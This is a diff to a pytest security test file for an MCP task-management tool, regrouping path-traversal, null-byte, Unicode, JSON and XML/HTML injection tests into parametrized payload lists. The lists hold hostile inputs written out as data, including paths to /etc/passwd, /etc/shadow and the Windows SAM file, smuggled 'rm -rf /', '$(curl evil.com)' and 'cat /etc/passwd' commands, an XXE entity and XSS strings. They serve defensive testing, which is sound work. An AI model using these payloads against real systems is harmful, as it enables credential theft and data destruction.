@@ -7,6 +7,7 @@ to prevent security vulnerabilities.
 
 import pytest
 import asyncio
+import hashlib
 import tempfile
 from pathlib import Path
 from unittest.mock import patch
@@ -20,35 +21,92 @@ from wise_mise_mcp.analyzer import TaskAnalyzer
 from wise_mise_mcp.manager import TaskManager
 
 
+def _name_suffix(payload: str) -> str:
+    """Stable short digest of a payload for unique, reproducible task names"""
+    return hashlib.blake2b(payload.encode("utf-8", "surrogatepass"), digest_size=6).hexdigest()
+
+
+PATH_TRAVERSAL_INPUTS = [
+    "../../../etc/passwd",
+    "..\\..\\..\\windows\\system32",
+    "/etc/passwd",
+    "C:\\Windows\\System32\\config\\sam",
+    "../../../../../../etc/shadow",
+    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",  # URL encoded
+    "....//....//....//etc/passwd",  # Double encoding attempt
+    "/proc/self/environ",
+    "/proc/version",
+    "\\\\server\\share\\file",
+]
+
+NULL_BYTE_INPUTS = [
+    "normal_path\x00malicious",
+    "task_name\x00; rm -rf /",
+    "description\x00$(curl evil.com)",
+    "command\x00 && cat /etc/passwd",
+]
+
+UNICODE_ATTACKS = [
+    "test\u0000malicious",  # Null character
+    "test\u001bmalicious",  # Escape character
+    "test\u000amalicious",  # Newline
+    "test\u000dmalicious",  # Carriage return
+    "test\u0009malicious",  # Tab
+    "test\ufeffmalicious",  # BOM
+    "test\u200bmalicious",  # Zero-width space
+    "тест",  # Cyrillic
+    "テスト",  # Japanese
+    "🔥💥🚨",  # Emojis
+    "a" * 100 + "\ud83d\ude00",  # Long string with emoji
+]
+
+JSON_PAYLOADS = [
+    '{"malicious": "payload"}',
+    '"malicious_string"',
+    '[1,2,3,"injection"]',
+    '{"$where": "this.a == this.b"}',  # NoSQL injection attempt
+    '{"\\u0000": "null_byte"}',
+    '{"exec": "rm -rf /"}',
+]
+
+XML_HTML_PAYLOADS = [
+    "<script>alert('xss')</script>",
+    "<?xml version='1.0'?><!DOCTYPE test [<!ENTITY xxe SYSTEM '/etc/passwd'>]>",
+    "<img src=x onerror=alert('xss')>",
+    "<!--malicious comment-->",
+    "<![CDATA[malicious data]]>",
+    "&lt;script&gt;alert('encoded')&lt;/script&gt;",
+]
+
+MALICIOUS_PAYLOADS = (
+    [(payload, "null_byte") for payload in NULL_BYTE_INPUTS]
+    + [(payload, "unicode") for payload in UNICODE_ATTACKS]
+    + [(payload, "json") for payload in JSON_PAYLOADS]
+    + [(payload, "xml") for payload in XML_HTML_PAYLOADS]
+)
+
+
+@pytest.fixture(scope="module")
+def sec_temp_dir(tmp_path_factory):
+    """One project directory shared by every parametrized payload"""
+    return tmp_path_factory.mktemp("sec")
+
+
 class TestInputValidation:
     """Security tests for input validation"""
 
     @pytest.mark.security
     @pytest.mark.asyncio
-    async def test_path_traversal_prevention(self):
+    @pytest.mark.parametrize("malicious_path", PATH_TRAVERSAL_INPUTS)
+    async def test_path_traversal_prevention(self, malicious_path):
         """Test that path traversal attacks are prevented"""
+        # Call the FastMCP tool function directly
+        result = await analyze_project_for_tasks.fn(project_path=malicious_path)
         
-        malicious_paths = [
-            "../../../etc/passwd",
-            "..\\..\\..\\windows\\system32",
-            "/etc/passwd",
-            "C:\\Windows\\System32\\config\\sam",
-            "../../../../../../etc/shadow", 
-            "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",  # URL encoded
-            "....//....//....//etc/passwd",  # Double encoding attempt
-            "/proc/self/environ",
-            "/proc/version",
-            "\\\\server\\share\\file",
-        ]
-        
-        for malicious_path in malicious_paths:
-            # Call the FastMCP tool function directly
-            result = await analyze_project_for_tasks.fn(project_path=malicious_path)
-            
-            # Should return an error, not process the malicious path
-            assert "error" in result
-            # Any error is acceptable for security purposes - we just don't want successful processing
-            assert result["error"] is not None
+        # Should return an error, not process the malicious path
+        assert "error" in result
+        # Any error is acceptable for security purposes - we just don't want successful processing
+        assert result["error"] is not None
 
     @pytest.mark.security
     @pytest.mark.asyncio
@@ -74,7 +132,7 @@ class TestInputValidation:
                 params = {
                     "project_path": temp_dir,
                     "task_description": f"Testing command injection with: {malicious_command[:50]}...",
-                    "suggested_name": f"security_test_command_{i}_{hash(malicious_command) % 10000}"
+                    "suggested_name": f"security_test_command_{i}_{_name_suffix(malicious_command)}"
                 }
                 
                 result = await create_task.fn(
@@ -135,133 +193,33 @@ class TestInputValidation:
 
     @pytest.mark.security
     @pytest.mark.asyncio
-    async def test_null_byte_injection(self):
-        """Test handling of null byte injection attempts"""
-        
-        null_byte_inputs = [
-            "normal_path\x00malicious",
-            "task_name\x00; rm -rf /",
-            "description\x00$(curl evil.com)",
-            "command\x00 && cat /etc/passwd",
-        ]
-        
-        with tempfile.TemporaryDirectory() as temp_dir:
-            for malicious_input in null_byte_inputs:
-                # Test in project path
-                result = await analyze_project_for_tasks.fn(project_path=malicious_input)
-                assert isinstance(result, dict)
-                
-                # Test in task description
-                params = {
-                    "project_path": temp_dir,
-                    "task_description": malicious_input,
-                    "suggested_name": f"null_test_{hash(malicious_input)}"
-                }
-                result = await create_task.fn(
-                    project_path=params["project_path"],
-                    task_description=params["task_description"],
-                    suggested_name=params.get("suggested_name")
-                )
-                assert isinstance(result, dict)
-
-    @pytest.mark.security
-    @pytest.mark.asyncio
-    async def test_unicode_and_encoding_attacks(self):
-        """Test handling of various Unicode and encoding attacks"""
-        
-        unicode_attacks = [
-            "test\u0000malicious",  # Null character
-            "test\u001bmalicious",  # Escape character
-            "test\u000amalicious",  # Newline
-            "test\u000dmalicious",  # Carriage return
-            "test\u0009malicious",  # Tab
-            "test\ufeffmalicious",  # BOM
-            "test\u200bmalicious",  # Zero-width space
-            "тест",  # Cyrillic
-            "テスト",  # Japanese
-            "🔥💥🚨",  # Emojis
-            "a" * 100 + "\ud83d\ude00",  # Long string with emoji
-        ]
-        
-        with tempfile.TemporaryDirectory() as temp_dir:
-            for unicode_input in unicode_attacks:
-                try:
-                    params = {
-                        "project_path": temp_dir,
-                        "task_description": unicode_input,
-                        "suggested_name": f"unicode_test_{abs(hash(unicode_input))}"
-                    }
-                    result = await create_task.fn(
-                    project_path=params["project_path"],
-                    task_description=params["task_description"],
-                    suggested_name=params.get("suggested_name")
-                )
-                    assert isinstance(result, dict)
-                except UnicodeError:
-                    # Unicode errors should be handled gracefully
-                    pass
-
-    @pytest.mark.security
-    @pytest.mark.asyncio
-    async def test_json_injection_prevention(self):
-        """Test prevention of JSON injection attacks"""
-        
-        json_payloads = [
-            '{"malicious": "payload"}',
-            '"malicious_string"',
-            '[1,2,3,"injection"]',
-            '{"$where": "this.a == this.b"}',  # NoSQL injection attempt
-            '{"\\u0000": "null_byte"}',
-            '{"exec": "rm -rf /"}',
-        ]
-        
-        with tempfile.TemporaryDirectory() as temp_dir:
-            for json_payload in json_payloads:
-                params = {
-                    "project_path": temp_dir,
-                    "task_description": json_payload,
-                    "suggested_name": f"json_test_{abs(hash(json_payload))}"
-                }
-                
-                result = await create_task.fn(
-                    project_path=params["project_path"],
-                    task_description=params["task_description"],
-                    suggested_name=params.get("suggested_name")
-                )
-                assert isinstance(result, dict)
-                
-                # The JSON payload should be treated as plain text, not parsed
+    @pytest.mark.parametrize(
+        "payload,kind",
+        MALICIOUS_PAYLOADS,
+        ids=[f"{kind}-{i}" for i, (_, kind) in enumerate(MALICIOUS_PAYLOADS)],
+    )
+    async def test_malicious_payload(self, sec_temp_dir, payload, kind):
+        """Test handling of null byte, Unicode, JSON and XML/HTML injection payloads"""
+        if kind == "null_byte":
+            # Test in project path
+            result = await analyze_project_for_tasks.fn(project_path=payload)
+            assert isinstance(result, dict)
 
-    @pytest.mark.security
-    @pytest.mark.asyncio
-    async def test_xml_and_html_injection(self):
-        """Test handling of XML/HTML injection attempts"""
-        
-        xml_html_payloads = [
-            "<script>alert('xss')</script>",
-            "<?xml version='1.0'?><!DOCTYPE test [<!ENTITY xxe SYSTEM '/etc/passwd'>]>",
-            "<img src=x onerror=alert('xss')>",
-            "<!--malicious comment-->",
-            "<![CDATA[malicious data]]>",
-            "&lt;script&gt;alert('encoded')&lt;/script&gt;",
-        ]
-        
-        with tempfile.TemporaryDirectory() as temp_dir:
-            for payload in xml_html_payloads:
-                params = {
-                    "project_path": temp_dir,
-                    "task_description": payload,
-                    "suggested_name": f"xml_test_{abs(hash(payload))}"
-                }
-                
-                result = await create_task.fn(
-                    project_path=params["project_path"],
-                    task_description=params["task_description"],
-                    suggested_name=params.get("suggested_name")
-                )
-                assert isinstance(result, dict)
+        # Test in task description; payloads must be treated as plain text, not parsed
+        try:
+            result = await create_task.fn(
+                project_path=str(sec_temp_dir),
+                task_description=payload,
+                suggested_name=f"{kind}_test_{_name_suffix(payload)}"
+            )
+            assert isinstance(result, dict)
+        except UnicodeError:
+            # Unicode errors should be handled gracefully
+            if kind != "unicode":
+                raise
 
     @pytest.mark.security
+    @pytest.mark.skip(reason="placeholder; implement when sanitizer API lands")
     def test_input_sanitization_functions(self):
         """Test that input sanitization functions work correctly"""
         